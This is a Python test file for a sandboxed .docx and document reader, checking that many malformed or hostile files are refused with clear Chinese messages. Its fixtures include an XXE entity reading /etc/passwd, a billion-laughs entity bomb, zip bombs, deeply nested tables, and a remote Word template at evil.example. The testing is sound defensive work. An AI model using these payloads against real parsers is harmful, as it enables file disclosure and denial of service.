"""Files of unknown origin: each other kind has its own message, hostile ones end in the child."""

import io
import os
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from model.errors import ReadRefused
from model.reading import limits
from model.reading.files import read_file
from model.reading.gate import check_package
from model.reading.limits import OUT_OF_MEMORY
from model.word.read.word_source import read_docx
from tests.reading.docx_files import W, docx, p, zipped
from tests.source import ROOT

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)
GOOD = docx(p("云岭县上半年工作总结") + p("全县经济稳步增长。"))


def stream(name: str) -> bytes:
    return OLE + name.encode("utf-16-le") + bytes(100)


KINDS = {
    "空的.docx": (b"", "空的"),
    "只有空白.txt": (b"\xef\xbb\xbf \r\n", "空的"),
    "全角空白.txt": ("　\n　\n".encode(), "空的"),
    "旧.doc": (stream("WordDocument"), "旧版 Word"),
    "改了名.docx": (stream("WordDocument"), "旧版 Word"),
    "加密.docx": (stream("EncryptedPackage"), "密码"),
    "表.xls": (stream("Workbook"), "Excel"),
    "稿.wps": (stream("WordDocument"), "WPS"),
    "宏.docm": (docx(p("字"), {"word/vbaProject.bin": b"x"}), "宏"),
    "改名的宏.docx": (docx(p("字"), types="<T ContentType='x.macroEnabled.main+xml'/>"), "宏"),
    "图片.docx": (b"\x89PNG\r\n\x1a\n" + bytes(100), "图片"),
    "照片.docx": (b"\xff\xd8\xff\xe0" + bytes(100), "图片"),
    "文.pdf.docx": (b"%PDF-1.7\n" + bytes(100), "PDF"),
    "富文本.doc": (b"{\\rtf1\\ansi}", "RTF"),
    "网页.doc": (b"<!DOCTYPE html><html><body>x</body></html>", "网页"),
    "压缩.docx": (zipped({"旧稿.txt": "字".encode()}), "压缩包"),
    "版式.docx": (zipped({"OFD.xml": b"<a/>"}), "OFD"),
    "表.docx": (docx("", {"xl/workbook.xml": b"<a/>"}), "Excel"),
    "演示.docx": (docx("", {"ppt/presentation.xml": b"<a/>"}), "演示文稿"),
    "开放.docx": (zipped({"content.xml": b"<a/>", "mimetype": b"x"}), "OpenDocument"),
    "断了.docx": (GOOD[: len(GOOD) // 2], "不完整"),
    "没有字.docx": (docx(p(" ")), "没有文字"),
    "没有正文.docx": (zipped({"[Content_Types].xml": b"<Types/>"}), "正文"),
}  # fmt: skip


@pytest.mark.parametrize("name", KINDS)
def test_every_other_kind_of_file_is_told_by_name_with_what_to_do(
    name: str, tmp_path: Path
) -> None:
    data, said = KINDS[name]
    (tmp_path / name).write_bytes(data)
    with pytest.raises(ReadRefused, match=said) as refused:
        read_file(tmp_path / name)
    assert name in str(refused.value)
    assert refused.value.exit_code == 2


def test_a_folder_and_a_missing_file_are_told(tmp_path: Path) -> None:
    with pytest.raises(ReadRefused, match="文件夹"):
        read_file(tmp_path)
    with pytest.raises(ReadRefused, match="找不到"):
        read_file(tmp_path / "没有.docx")
    with pytest.raises(ReadRefused, match="不能用的字符"):
        read_file(Path("a\0b"))


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no pipes in the file system here")
def test_a_pipe_is_refused_and_not_waited_for(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "管道")
    with pytest.raises(ReadRefused, match="不是普通文件"):
        read_file(tmp_path / "管道")


def test_a_good_file_is_read_through_the_child(tmp_path: Path) -> None:
    (tmp_path / "旧稿.docx").write_bytes(GOOD)
    assert read_file(tmp_path / "旧稿.docx").text == "云岭县上半年工作总结\n全县经济稳步增长。\n"


def test_a_text_file_needs_no_right_name(tmp_path: Path) -> None:
    (tmp_path / "旧稿.docx").write_text("BMW项目开工。\n", encoding="utf-8")
    assert read_file(tmp_path / "旧稿.docx").text == "BMW项目开工。\n"


EMPTY = "<w:p/>"
NESTED = "<w:tbl><w:tr><w:tc>" * 10_000 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 10_000
XXE = (
    f'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document xmlns:w="{W}"><w:body>'
    "<w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>"
).encode()
BILLION = (
    '<!DOCTYPE d [<!ENTITY a "哈哈哈哈哈哈哈哈哈哈">'
    + "".join(
        f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True)
    )
    + f']><w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>&i;</w:t></w:r></w:p>'
    + "</w:body></w:document>"
).encode()


def part(data: bytes) -> bytes:
    return docx("", {"word/document.xml": data})


# Made when asked for: some are large.
HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "zip bomb": (lambda: docx(p("字"), {"word/media/a.bin": bytes(60_000_000)}), "紧密"),
    "declared too large": (
        lambda: docx(p("字"), {f"word/media/{n}.bin": os.urandom(99_000) * 60 for n in range(18)}),
        "MB的上限",
    ),
    "too many parts": (lambda: docx(p("字"), {f"a/{n}": b"" for n in range(2100)}), "部件"),
    "20 million empty paragraphs": (lambda: docx(EMPTY * 20_000_000), "紧密|MB的上限"),
    "as many, packed less tightly": (
        lambda: docx((EMPTY * 99 + p("字" * 9)) * 120_000), "紧密|上百万",
    ),
    "an entity of a local file": (lambda: part(XXE), "不合规范"),
    "entities of entities": (lambda: part(BILLION), "不合规范"),
    "10,000 nested tables": (lambda: docx(NESTED), "嵌套|紧密"),
    "no XML at all": (lambda: part(b"\x00\x01\x02"), "不合规范"),
    "another root": (lambda: part(b"<html/>"), "正文"),
    "a control character": (
        lambda: part(f'<w:p xmlns:w="{W}">&#7;</w:p>'.encode()), "不合规范",
    ),
}  # fmt: skip


@pytest.mark.slow
@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_file_is_refused_within_the_limits(name: str, tmp_path: Path) -> None:
    made, said = HOSTILE[name]
    (tmp_path / "来件.docx").write_bytes(made())
    with pytest.raises(ReadRefused, match=said):
        read_file(tmp_path / "来件.docx")


@pytest.mark.slow
@pytest.mark.skipif(sys.platform == "win32", reason="limits of memory are POSIX")
def test_a_file_that_takes_all_memory_is_stopped_and_told(tmp_path: Path) -> None:
    attributes = " ".join(f'a{number}="{number}"' for number in range(20))
    body = "".join(f"<w:p b='{number}' {attributes}/>" for number in range(250_000))
    (tmp_path / "来件.docx").write_bytes(docx(body))
    with pytest.raises(ReadRefused, match="内存或时间"):
        read_file(tmp_path / "来件.docx")


def test_a_file_that_is_too_large_is_not_read_whole(tmp_path: Path) -> None:
    with (tmp_path / "大.docx").open("wb") as file:
        file.truncate(limits.MAX_BYTES + 1)
    with pytest.raises(ReadRefused, match="MB"):
        read_file(tmp_path / "大.docx")


def test_an_encrypted_zip_is_told(tmp_path: Path) -> None:
    data = bytearray(GOOD)
    at = data.index(b"PK\x01\x02")
    data[at + 8] |= 1
    (tmp_path / "密.docx").write_bytes(bytes(data))
    with pytest.raises(ReadRefused, match="密码"):
        read_file(tmp_path / "密.docx")


def test_an_outside_template_is_neither_fetched_nor_kept(tmp_path: Path) -> None:
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="r" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm"'
        ' TargetMode="External"/></Relationships>'
    )
    data = docx(p("正文。"), {"word/_rels/settings.xml.rels": rels.encode()})
    (tmp_path / "模板.docx").write_bytes(data)
    source = read_file(tmp_path / "模板.docx")
    assert source.text == "正文。\n"
    assert "evil" not in repr(source)


@pytest.mark.parametrize(
    ("child", "said"),
    [
        ("raise SystemExit(71)", "内存或时间"),
        ("import os; os.abort()", "内存或时间|意外"),
        ("print('nonsense')", "意外"),
        ("import time; time.sleep(60)", "内存或时间"),
    ],
)
def test_a_child_that_fails_is_told_and_the_program_goes_on(
    child: str, said: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "child.py").write_text(child)
    run = subprocess.run

    def other_child(command: list[str], **given: object) -> object:
        given["cwd"] = tmp_path
        return run([sys.executable, "child.py"], **given)  # type: ignore[call-overload]

    monkeypatch.setattr(subprocess, "run", other_child)
    monkeypatch.setattr(limits, "CHILD_SECONDS", 0.5)
    (tmp_path / "旧稿.docx").write_bytes(GOOD)
    with pytest.raises(ReadRefused, match=said):
        read_file(tmp_path / "旧稿.docx")


@pytest.mark.skipif(sys.platform == "win32", reason="limits of memory are POSIX")
def test_the_child_may_not_take_more_memory_than_its_limit() -> None:
    code = (
        "import sys; from model.reading import limits; limits.bound_this_process()\n"
        "try: bytearray(limits.CHILD_MEMORY)\n"
        f"except MemoryError: sys.exit({OUT_OF_MEMORY})"
    )
    done = subprocess.run([sys.executable, "-c", code], cwd=ROOT, check=False)
    assert done.returncode == OUT_OF_MEMORY


def test_the_child_loads_neither_records_nor_qt() -> None:
    code = (
        "import sys, model.word.read.child, model.word.read.word_source\n"
        "sys.exit(str({'pydantic', 'docx', 'PySide6'} & set(sys.modules)))"
    )
    done = subprocess.run(
        [sys.executable, "-c", code], cwd=ROOT, capture_output=True, text=True, check=False
    )
    assert done.stderr.strip() == "set()"


@given(st.integers(0, len(GOOD) - 1), st.binary(min_size=1, max_size=20))
def test_a_damaged_package_is_read_or_refused(at: int, damage: bytes) -> None:
    data = GOOD[:at] + damage + GOOD[at + len(damage) :]
    try:
        check_package(data, Path("旧稿.docx"))
        source = read_docx(data, Path("旧稿.docx"))
    except ReadRefused as error:
        assert "旧稿.docx" in str(error)
    else:
        assert source.kind == "docx"


@given(st.data())
def test_a_damaged_document_is_read_or_refused(data: st.DataObject) -> None:
    with zipfile.ZipFile(io.BytesIO(GOOD)) as archive:
        xml = archive.read("word/document.xml").decode()
    at = data.draw(st.integers(0, len(xml)))
    cut = data.draw(st.integers(0, 40))
    mutated = xml[:at] + data.draw(st.text("<>/=\"'w:ptr&;字", max_size=12)) + xml[at + cut :]
    try:
        read_docx(part(mutated.encode()), Path("旧稿.docx"))
    except ReadRefused as error:
        assert "旧稿.docx" in str(error)


def test_a_directory_that_points_before_the_file_is_a_broken_file() -> None:
    """Each byte of a zip's directory damaged: never another kind of error than a refusal."""
    directory = GOOD.rindex(b"PK\x05\x06")
    first = GOOD.index(b"PK\x01\x02")
    told: set[str] = set()
    for at in [*range(first, first + 46), *range(directory, len(GOOD))]:
        for byte in (0x00, 0x7F, 0xFF):
            damaged = GOOD[:at] + bytes([byte]) + GOOD[at + 1 :]
            try:
                check_package(damaged, Path("旧稿.docx"))
                read_docx(damaged, Path("旧稿.docx"))
            except ReadRefused as error:
                told.add(str(error))
    assert any("文件不完整或已损坏" in message for message in told)


def test_a_level_of_thousands_of_digits_is_none() -> None:
    numbering = (
        f'<w:abstractNum w:abstractNumId="1"><w:lvl w:ilvl="{"1" * 5000}"><w:pStyle w:val="a"/>'
        '</w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="1"/>'
        f'<w:lvlOverride w:ilvl="{"1" * 5000}"/></w:num>'
    )
    body = p("云岭县上半年工作总结", '<w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr>')
    assert "工作总结" in read_docx(docx(body, numbering=numbering), Path("旧稿.docx")).text
